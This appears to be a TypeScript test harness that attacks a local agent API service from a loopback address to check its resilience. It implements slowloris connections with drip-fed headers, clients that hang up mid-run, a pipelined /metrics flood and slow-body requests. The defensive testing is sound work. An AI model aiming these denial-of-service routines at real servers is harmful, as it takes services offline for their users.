// The hostile client: raw sockets from 127.0.0.2 (a second host, as the service sees it), each
// attack bounded in count and time and stopped by its handle.
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { ATTACKER_ADDRESS } from './settings';

export interface Attack {
  /** What the attack did, for the report line. */
  summary(): Record<string, number>;
  stop(): Promise<void>;
}

function portOf(url: string): number {
  return Number(new URL(url).port);
}

function open(url: string): Socket {
  const socket = connect({ host: '127.0.0.1', port: portOf(url), localAddress: ATTACKER_ADDRESS });
  socket.on('error', () => {});
  return socket;
}

/** Resolves when the socket is connected, or false once it is closed first. */
function connected(socket: Socket): Promise<boolean> {
  return new Promise((resolve) => {
    socket.once('connect', () => resolve(true));
    socket.once('close', () => resolve(false));
  });
}

/**
 * `count` connections that send the start of a request and then neither finish nor read
 * (slowloris). With `dripMs`, one more header line every `dripMs` (a drip-feed that a
 * per-byte idle timeout would never end). Opened in batches of 128, under the listen backlog.
 */
export async function holdConnections(
  url: string,
  count: number,
  dripMs?: number,
): Promise<Attack> {
  const sockets: Socket[] = [];
  let refused = 0;
  for (let i = 0; i < count; i += 128) {
    const batch = Array.from({ length: Math.min(128, count - i) }, () => open(url));
    sockets.push(...batch);
    const results = await Promise.all(batch.map(connected));
    refused += results.filter((ok) => !ok).length;
  }
  for (const socket of sockets) {
    socket.pause();
    socket.write('GET /v1/agents HTTP/1.1\r\nHost: x\r\n');
  }
  const drip =
    dripMs === undefined
      ? undefined
      : setInterval(() => {
          for (const socket of sockets) if (!socket.destroyed) socket.write('X-Drip: 1\r\n');
        }, dripMs);
  return {
    summary: () => ({
      opened: count,
      refusedAtConnect: refused,
      stillOpen: sockets.filter((s) => !s.destroyed && !s.readableEnded).length,
    }),
    stop: async () => {
      clearInterval(drip);
      for (const socket of sockets) socket.destroy();
    },
  };
}

function runRequest(key: string, agent: string, input: string, contentLength?: number): string {
  const body = JSON.stringify({ input });
  return (
    `POST /v1/agents/${agent}/runs HTTP/1.1\r\nHost: x\r\nX-API-Key: ${key}\r\n` +
    `Content-Type: application/json\r\nContent-Length: ${contentLength ?? Buffer.byteLength(body)}\r\n\r\n` +
    (contentLength === undefined ? body : '')
  );
}

/** Runs repeated in a loop until stopped, `perSecond` a second; resolves with the loop. */
function every(perSecond: number, stopped: () => boolean, once: () => void): Promise<void> {
  return (async () => {
    while (!stopped()) {
      once();
      await sleep(1000 / perSecond);
    }
  })();
}

/**
 * Runs of `agent` with an input of about 64 KiB, each connection destroyed `hangUpMs` after
 * the request was written: the client has gone, the run must not go on.
 */
export function hangUpRuns(
  url: string,
  key: string,
  o: { perSecond: number; hangUpMs: number; agent: string },
): Attack {
  let stopped = false;
  let sent = 0;
  const input = `hang up ${'x'.repeat(64 * 1024 - 200)}`;
  const loop = every(
    o.perSecond,
    () => stopped,
    () => {
      const socket = open(url);
      socket.write(runRequest(key, o.agent, `${sent++} ${input}`));
      setTimeout(() => socket.destroy(), o.hangUpMs);
    },
  );
  return {
    summary: () => ({ sent }),
    stop: async () => {
      stopped = true;
      await loop;
      await sleep(o.hangUpMs);
    },
  };
}

/**
 * `perSecond` requests for `path` a second, pipelined over `connections` keep-alive
 * connections, sent whether or not the earlier ones were answered (an open loop: the rate of
 * the reported /metrics flood, 133 scrapes a second from 32 connections). Answers are counted
 * by their status lines, not parsed: the attacker shares this machine's two cores with the
 * service, and its own work would show as the service's latency.
 */
export async function flood(
  baseUrl: string,
  path: string,
  o: { connections: number; perSecond: number },
): Promise<Attack> {
  const sockets = Array.from({ length: o.connections }, () => open(baseUrl));
  await Promise.all(sockets.map(connected));
  let sent = 0;
  let answered = 0;
  for (const socket of sockets) {
    socket.on('data', (chunk: Buffer) => {
      for (
        let at = chunk.indexOf('HTTP/1.1 200');
        at !== -1;
        at = chunk.indexOf('HTTP/1.1 200', at + 1)
      ) {
        answered++;
      }
    });
  }
  let stopped = false;
  const request = `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`;
  const loop = every(
    o.perSecond,
    () => stopped,
    () => {
      sockets[sent++ % sockets.length]!.write(request);
    },
  );
  return {
    summary: () => ({ connections: o.connections, sent, answered }),
    stop: async () => {
      stopped = true;
      await loop;
      for (let i = 0; i < 20 && answered < sent; i++) await sleep(100);
      for (const socket of sockets) socket.destroy();
    },
  };
}

/**
 * Runs whose 64 KiB body comes one byte every `dripMs`, `perSecond` new ones a second (under
 * the key's rate limit, so each reaches the body), each held until the service closes it.
 */
export function slowBodies(
  url: string,
  key: string,
  o: { perSecond: number; dripMs: number },
): Attack {
  let stopped = false;
  const live = new Set<Socket>();
  const statuses = new Map<string, number>();
  const one = () => {
    const socket = open(url);
    live.add(socket);
    socket.write(runRequest(key, 'research', '', 64 * 1024));
    socket.once('data', (chunk: Buffer) => {
      const status = /^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1'))?.[1] ?? 'other';
      statuses.set(status, (statuses.get(status) ?? 0) + 1);
    });
    const drip = setInterval(() => socket.write('x'), o.dripMs);
    socket.once('close', () => {
      clearInterval(drip);
      live.delete(socket);
    });
  };
  const loop = every(o.perSecond, () => stopped, one);
  let most = 0;
  const watch = setInterval(() => (most = Math.max(most, live.size)), 100);
  return {
    summary: () => ({ mostOpen: most, ...Object.fromEntries(statuses) }),
    stop: async () => {
      stopped = true;
      await loop;
      clearInterval(watch);
      for (const socket of live) socket.destroy();
    },
  };
}
